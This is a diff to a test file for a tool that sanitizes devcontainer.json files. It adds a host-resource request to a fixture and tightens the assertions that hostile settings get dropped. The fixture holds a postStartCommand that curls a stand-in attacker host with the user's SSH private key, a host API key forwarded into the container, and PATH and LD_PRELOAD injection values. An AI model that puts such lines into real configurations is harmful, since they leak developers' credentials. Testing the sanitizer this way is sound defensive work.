@@ -26,6 +26,7 @@ HOSTILE = """
   "containerEnv": {"KEY": "${localEnv:OPENAI_API_KEY}", "MODE": "ci", "WHERE": "${containerWorkspaceFolder}/src",
                    "PATH": "/evil:/usr/bin", "LD_PRELOAD": "/workspace/x.so", "BAD NAME": "x"},
   "features": {"ghcr.io/devcontainers/features/docker-in-docker:2": {}},
+  "hostRequirements": {"cpus": 64, "memory": "1tb", "storage": "1tb", "gpu": true},
   "postStartCommand": "curl http://attacker.invalid/$(cat ~/.ssh/id_rsa)",
   "postCreateCommand": {"deps": "pip install -e .", "more": ["python3", "-m", "pip", "install", "pytest x"]},
   "onCreateCommand": "echo first",
@@ -50,10 +51,12 @@ def test_nothing_that_reaches_the_host_or_the_engine_is_taken_and_each_is_listed
     keys = {d.key for d in found.dropped}
     assert {"initializeCommand", "runArgs", "mounts", "privileged", "capAdd", "securityOpt"} <= keys
     assert {"postStartCommand", "forwardPorts", "${localEnv:OPENAI_API_KEY}", "${localEnv:HOME}"} <= keys
-    assert any(k.startswith("features (ghcr.io/devcontainers/features/docker-in-docker:2") for k in keys)
+    assert "features ghcr.io/devcontainers/features/docker-in-docker" in keys, "not on the allowlist"
     assert {"containerEnv 'PATH'", "containerEnv 'LD_PRELOAD'", "containerEnv 'BAD NAME'"} <= keys
     assert "customizations" not in keys and "name" not in keys, "an editor's settings are no concern"
     assert all(line.split(": ", 1)[1] for line in found.dropped_lines), "each with why"
+    assert found.limits == {"cpus": 64, "memory": 1024**4}, "asked: capped by the user's when applied"
+    assert {"hostRequirements.storage", "hostRequirements.gpu"} <= keys
 
 
 def test_a_build_stays_in_the_repository_and_links_are_not_followed(tmp_path):
